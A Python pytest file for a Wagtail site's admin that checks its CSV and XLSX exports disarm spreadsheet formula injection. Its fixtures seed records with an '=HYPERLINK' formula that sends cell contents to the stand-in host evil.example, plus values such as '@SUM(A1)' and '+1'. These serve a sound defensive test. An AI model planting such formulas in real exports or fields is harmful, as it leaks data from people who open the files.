"""Every list and report of the admin that leaves as a file: nothing in it is run by the program that opens it."""

import csv
import io

import pytest
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect

from pma_site.core.spreadsheets import read
from tests import builders
from tests.addresses import addresses
from tests.back_office import signed_in

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
ARMED = ("=", "+", "-", "@", "\t", "\r")
# What is made below, by where it leaves the site.
EXPORTS = {
    "/admin/reports/aging-pages/",
    "/admin/reports/site-history/",
    "/admin/reports/locked/",
    "/admin/reports/acces/",
    "/admin/redirects/",
    "/admin/snippets/directory/organisation/",
    "/admin/snippets/directory/person/",
    "/admin/snippets/directory/mandate/",
    "/admin/snippets/agenda/venue/",
    "/admin/snippets/newsletter/indicator/",
    "/admin/snippets/territory/commune/",
}


@pytest.fixture
def administrator():
    return signed_in(builders.administrator(first_name=FORMULA, last_name=FORMULA))


@pytest.fixture
def armed(administrator):
    """A record of each kind that begins as a formula does."""
    builders.event(title=FORMULA, locked=True).save_revision().publish()
    Redirect.objects.create(old_path="/ancienne", redirect_link=FORMULA)
    commune = builders.commune(FORMULA)
    builders.mandate(builders.person(f"Camille {FORMULA}", position=FORMULA), builders.organisation(FORMULA))
    builders.venue(FORMULA, commune=commune, street="@SUM(A1)")
    builders.indicator(FORMULA, source="+1")


def exports():
    """The addresses of the admin that give files, but for those that need to be told of what."""
    return [
        address
        for address, pattern in addresses()
        if issubclass(getattr(pattern.callback, "view_class", object), SpreadsheetExportMixin) and "/1/" not in address
    ]


def test_no_export_holds_a_formula(administrator, armed):
    disarmed = set()
    for address in exports():
        answer = administrator.get(address, {"export": "csv"})
        if not answer.get("Content-Type", "").startswith("text/csv"):
            continue
        rows = list(csv.reader(io.StringIO(answer.getvalue().decode())))
        cells = [cell for row in rows for cell in row]
        assert [cell for cell in cells if cell.startswith(ARMED)] == [], address
        disarmed |= {address for cell in cells if cell.lstrip("'").startswith(ARMED)}

    assert EXPORTS - disarmed == set()


def test_a_workbook_holds_text(administrator, armed):
    answer = administrator.get("/admin/reports/aging-pages/", {"export": "xlsx"})

    table = read(answer.getvalue())

    assert FORMULA in [cell for row in table.rows for cell in row.cells]


def test_what_is_no_text_stays_as_it_is(administrator):
    builders.commune("Vimy", population=4200)

    answer = administrator.get("/admin/snippets/territory/commune/", {"export": "csv"}).getvalue().decode()

    assert ",Vimy," in answer
    assert ",4200," in answer
